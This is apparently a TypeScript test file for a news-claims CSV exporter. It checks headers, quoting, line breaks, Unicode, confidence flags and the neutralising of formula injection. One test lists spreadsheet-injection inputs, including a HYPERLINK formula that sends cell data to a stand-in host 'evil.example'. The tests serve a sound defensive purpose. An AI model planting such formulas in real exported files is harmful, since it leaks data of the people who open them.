import { parse } from 'csv-parse/sync';
import { CSV_BOM, CSV_HEADER, csvHead, csvRecords, type ClaimExportRow } from '../../server/claims/export-csv';

function claim(over: Partial<ClaimExportRow> = {}): ClaimExportRow {
  return {
    id: 7, article_id: 3, article_title: 'Harbour plans', article_outlet: 'City Post', article_published: '2026-11-30', quote: 'We will rebuild the pier',
    kind: 'direct', speaker_id: 12, speaker_name: 'Ona Reyes', speaker_mention: 'the harbour chief', source: 'City Post', status: 'verified', attribution_status: 'approved', confidence: 0.9,
    assignee_name: 'Ana Silva (ana@news.example)', verdict_note: null, evidence_urls: [], verdict_by: 'Ana Silva', verdict_at: '2026-12-01T09:30:00.000Z', updated_at: '2026-12-01T09:30:00.000Z', ...over,
  };
}
const QUOTE = CSV_HEADER.indexOf('Quote');
const ORIGIN = 'https://verbatim.news.example';
/** The file as a spreadsheet or a script reads it back: header row, then one array of cells per claim. */
const readBack = (text: string) => parse(text.replace(CSV_BOM, ''), { record_delimiter: '\r\n', relax_column_count: false }) as string[][];

describe('claims CSV cells', () => {
  test('when the file starts, then it is the UTF-8 byte order mark and the header row of plain names, ended by CRLF', () => {
    expect(csvHead()).toBe(`\uFEFF${CSV_HEADER.join(',')}\r\n`);
    expect(CSV_HEADER).toEqual(['Claim ID', 'Claim link', 'Article ID', 'Article title', 'Outlet', 'Published', 'Quote', 'Kind', 'Speaker', 'Speaker ID',
      'Speaker as written', 'Source', 'Status', 'Attribution', 'Confidence (%)', 'Speaker uncertain', 'Assigned to', 'Verdict note', 'Evidence links', 'Verdict by', 'Verdict at (UTC)', 'Last change (UTC)']);
  });

  test('when a claim is written, then each column holds its value, the link is the claim’s whole address and the status is named as the list names it', () => {
    const text = csvRecords([claim({ status: 'needs_translation_review', evidence_urls: ['https://a.example/1', 'https://b.example/2'], verdict_note: null })], ORIGIN);
    expect(readBack(text)).toEqual([['7', 'https://verbatim.news.example/claims/7', '3', 'Harbour plans', 'City Post', '2026-11-30', 'We will rebuild the pier', 'direct', 'Ona Reyes', '12',
      'the harbour chief', 'City Post', 'Needs translation review', 'approved', '90', '', 'Ana Silva (ana@news.example)', '', 'https://a.example/1\nhttps://b.example/2', 'Ana Silva', '2026-12-01T09:30:00.000Z', '2026-12-01T09:30:00.000Z']]);
  });

  test.each([
    ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"`],
    ['+1 555 0100', "'+1 555 0100"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', "'＝1+1"],
  ])('when a cell begins with a formula character (%j), then it gets a leading apostrophe and is otherwise as written', (quote, cell) => {
    const line = csvRecords([claim({ quote })], ORIGIN);
    expect(line.split(',').length).toBeGreaterThan(17);
    expect(line).toContain(`,${cell},direct,`);
    expect(readBack(line)[0]![QUOTE]).toBe(`'${quote}`);
  });

  test('when a quote begins with a dash, then only the apostrophe is added: the quote, its spaces and punctuation stay intact', () => {
    const quote = '- We will not, “ever”, give up the port - never.';
    expect(readBack(csvRecords([claim({ quote })], ORIGIN))[0]![QUOTE]).toBe(`'${quote}`);
  });

  test('when cells hold commas, quotation marks, lone and paired line breaks, then they are quoted (marks doubled) and read back whole', () => {
    const quote = 'He said "no", then:\nwe wait,\r\nand see';
    const text = csvRecords([claim({ quote, article_title: 'A, B and "C"', verdict_note: 'line one\nline two' }), claim({ id: 8 })], ORIGIN);
    expect(text).toContain('"He said ""no"", then:\nwe wait,\r\nand see"');
    expect(text).toContain('"A, B and ""C"""');
    // a lone line feed is a line break to every reader: quoted too, though the records end with CRLF
    expect(text).toContain(',"line one\nline two",');
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = readBack(text);
    expect(rows.map((r) => r.length)).toEqual([CSV_HEADER.length, CSV_HEADER.length]);
    expect(rows[0]![QUOTE]).toBe(quote);
    expect(rows[0]![CSV_HEADER.indexOf('Article title')]).toBe('A, B and "C"');
    expect(rows[0]![CSV_HEADER.indexOf('Verdict note')]).toBe('line one\nline two');
    expect(rows[1]![0]).toBe('8');
  });

  test('when cells hold emoji, accents and right-to-left text, then they come back byte for byte and get no apostrophe', () => {
    const quote = 'אנחנו נבנה מחדש 🚢 — «Erdoğan», naïve café';
    const row = readBack(csvRecords([claim({ quote, speaker_name: 'شيرين أبو عاقلة' })], ORIGIN))[0]!;
    expect(row[QUOTE]).toBe(quote);
    expect(row[CSV_HEADER.indexOf('Speaker')]).toBe('شيرين أبو عاقلة');
    expect(Buffer.from(csvHead(), 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  test('when the engine’s speaker is a proposal under 75 %, then the file says the speaker is uncertain; approved, or at 75 %, it does not', () => {
    const cells = (over: Partial<ClaimExportRow>) => {
      const row = readBack(csvRecords([claim(over)], ORIGIN))[0]!;
      return [row[CSV_HEADER.indexOf('Confidence (%)')], row[CSV_HEADER.indexOf('Speaker uncertain')]];
    };
    expect(cells({ attribution_status: 'proposed', confidence: 0.6 })).toEqual(['60', 'yes']);
    expect(cells({ attribution_status: 'proposed', confidence: 0.75 })).toEqual(['75', '']);
    expect(cells({ attribution_status: 'approved', confidence: 0.6 })).toEqual(['60', '']);
  });

  test('when a claim has no speaker, source, outlet, date or verdict, then those cells are empty, not "null"', () => {
    const row = readBack(csvRecords([claim({ speaker_id: null, speaker_name: null, speaker_mention: null, source: null, article_outlet: null, article_published: null, verdict_by: null, verdict_at: null })], ORIGIN))[0]!;
    for (const name of ['Speaker', 'Speaker ID', 'Speaker as written', 'Source', 'Outlet', 'Published', 'Verdict by', 'Verdict at (UTC)', 'Evidence links']) expect([name, row[CSV_HEADER.indexOf(name)]]).toEqual([name, '']);
  });
});
